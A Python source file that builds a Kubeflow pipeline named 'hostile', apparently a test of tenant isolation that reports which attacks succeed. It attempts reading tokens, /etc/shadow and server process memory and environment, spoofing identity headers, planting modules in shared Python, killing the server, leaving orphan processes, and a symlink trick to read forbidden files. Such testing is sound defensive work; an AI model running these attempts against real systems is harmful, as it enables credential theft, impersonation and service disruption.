"""What a tenant's task tries that means harm. Compile: python hostile_pipeline.py OUT.yaml"""
import sys

from kfp import compiler, dsl


@dsl.component(base_image="python:3.11")
def attack(told: dict, report: dsl.Output[dsl.Artifact]):
    """Tries everything, and reports what came of each attempt: in an artifact, and in its log."""
    import http.client
    import json
    import os
    import signal
    import subprocess
    import sys
    import urllib.parse

    server = int(told["server"])
    # Told backwards, so that finding the words in an own file means nothing.
    treasures = [word[::-1].encode() for word in told["treasures"]]
    planted = "planted-" + told["marker"]

    def holds_treasure(content):
        return any(word in content for word in treasures)

    def read(path):
        with open(path, "rb") as file:
            return file.read()

    def read_any(paths):
        """The first file that gives away its content."""
        for path in paths:
            try:
                content = read(path)
            except OSError:
                continue
            if content:
                return f"{path}: {content[:40]!r}"

    def walk(folder):
        for root, _, names in os.walk(folder):
            for name in names:
                try:
                    content = read(os.path.join(root, name))
                except OSError:
                    continue
                if content.startswith(b"SQLite format 3") or holds_treasure(content):
                    return os.path.join(root, name)

    def find_server():
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                arguments = read(f"/proc/{pid}/cmdline").split(b"\0")
            except OSError:
                continue
            if b"serve" in arguments and b"--data-dir" in arguments:
                return pid

    def signal_to(pids, number):
        for pid in pids:
            try:
                os.kill(int(pid), number)
            except OSError:
                continue
            return pid

    def write(path):
        with open(path, "w") as file:
            file.write(planted)
        return path

    def write_any(folders):
        for folder in folders:
            try:
                return write(os.path.join(folder, planted))
            except OSError:
                continue

    def change(path):
        """Only what is there: a sandbox may have an empty folder of its own in that place."""
        with open(path, "r+b") as file:
            file.seek(0, os.SEEK_END)
            file.write(b"\n")
        return path

    def ask(address, path, headers, wanted):
        where = urllib.parse.urlsplit(address)
        connection = http.client.HTTPConnection(where.hostname, where.port, timeout=10)
        connection.request("GET", path, headers=headers)
        answer = connection.getresponse()
        body = answer.read()
        return wanted(answer.status, body)

    def let_in(status, body):
        return (status, body[:80]) if status != 401 else None

    def names_tenants(status, body):
        return next((name for name in told["tenants"] if name.encode() in body), None)

    def linger():
        """Leaves a process behind that nothing of ours is the parent of. What came of it is seen from outside."""
        code = (
            "import os, sys, time\n"
            "if os.fork(): os._exit(0)\n"
            "os.setsid()\n"
            "if os.fork(): os._exit(0)\n"
            "time.sleep(600)\n")
        subprocess.run([sys.executable, "-c", code, told["marker"] + "-lingers"], check=True)

    import kfp
    libraries = [path for path in sys.path if "/python" in path and os.path.isdir(path)]
    listing = f"/apis/v2beta1/experiments?namespace={told['tenants'][0]}"
    victim = told["tenants"][1]
    tries = {
        "read the database": lambda: read_any(told["databases"]),
        "read the files of another tenant": lambda: read_any(told["foreign"]),
        "read the files of another run": lambda: read_any(told["earlier"]),
        "read tokens": lambda: read_any(told["tokens"]),
        "read a token where KFP keeps one": lambda: read_any(["/var/run/secrets/kubeflow/pipelines/token"]),
        "list the profiles": lambda: os.listdir(told["profiles"]),
        "read the profiles": lambda: read_any(os.path.join(told["profiles"], name) for name in told["profile_files"]),
        "read the configuration": lambda: read(told["config"]),
        "read the server's log": lambda: read(told["log"]),
        "search the data folder": lambda: walk(told["data"]),
        "read the server's environment": lambda: read(f"/proc/{server}/environ"),
        "read the server's arguments": lambda: read(f"/proc/{server}/cmdline"),
        "read the server's maps": lambda: read(f"/proc/{server}/maps"),
        "enter the server's folder": lambda: os.listdir(f"/proc/{server}/cwd"),
        "open the server's memory": lambda: open(f"/proc/{server}/mem", "rb"),
        "find the server among the processes": find_server,
        "read a secret in the own environment": lambda: holds_treasure(repr(os.environ).encode()),
        "read the server's settings in the own environment": lambda: [
            name for name in os.environ if name.startswith(("BULKHEAD", "AWS_SECRET", "KF_", "KUBEFLOW", "DATABASE"))],
        "call without a token": lambda: ask(told["host"], listing, {}, let_in),
        "call as somebody by Kubeflow's header": lambda: ask(told["host"], listing, {"kubeflow-userid": victim}, let_in),
        "call as somebody by Google's header": lambda: ask(
            told["host"], listing, {"x-goog-authenticated-user-email": f"accounts.google.com:{victim}"}, let_in),
        "learn of tenants from the metrics": lambda: ask(told["admin"], "/metrics", {}, names_tenants),
        "learn of tenants from the health": lambda: ask(told["host"], "/apis/v2beta1/healthz", {}, names_tenants),
    }
    # These are for a sandbox alone: a trial without one is made of what only reads.
    if told["in_earnest"]:
        tries |= {
            "read through the server's root": lambda: read(f"/proc/{server}/root/etc/shadow"),
            "read the first process's environment": lambda: holds_treasure(read("/proc/1/environ")),
            "read shadow": lambda: read("/etc/shadow"),
            "search the temporary folder": lambda: walk("/tmp"),
            "write beside the server's files": lambda: write_any([told["outside"], told["data"], told["profiles"]]),
            "write to the system": lambda: write_any(told["system"]),
            "change the database": lambda: [change(path) for path in told["databases"]],
            "plant a module in the shared Python": lambda: write_any([*libraries, os.path.dirname(kfp.__file__)]),
            "plant a program beside the shared Python": lambda: write_any([f"{sys.prefix}/bin", sys.prefix]),
            "change a module of the shared Python": lambda: change(kfp.__file__),
            "signal the server": lambda: signal_to([server], 0),
            "signal the processes around it": lambda: signal_to(told["processes"], 0),
            "stop the server": lambda: signal_to([server], signal.SIGSTOP),
            "kill the server": lambda: signal_to([server], signal.SIGKILL),
            "leave a process behind": linger,
        }

    came_of = {}
    for name, attempt in tries.items():
        try:
            result = attempt()
        except Exception as error:
            came_of[name] = {"got_in": False, "why": f"{type(error).__name__}: {error}"[:200]}
        else:
            came_of[name] = {"got_in": bool(result), "why": repr(result)[:200]}
    text = "report of " + told["marker"] + " " + json.dumps(came_of)
    print(text, flush=True)
    with open(report.path, "w") as file:
        file.write(text + "\n")


@dsl.component(base_image="python:3.11")
def link(target: str, stolen: dsl.Output[dsl.Artifact]):
    """Has the server itself fetch a file that the task may not read: its output is a link to it."""
    import os

    os.makedirs(os.path.dirname(stolen.path), exist_ok=True)
    os.symlink(target, stolen.path)


@dsl.pipeline(name="hostile")
def hostile(told: dict, target: str):
    attacked = attack(told=told).set_caching_options(False)
    link(target=target).set_caching_options(False).after(attacked)


if __name__ == "__main__":
    compiler.Compiler().compile(hostile, sys.argv[1])
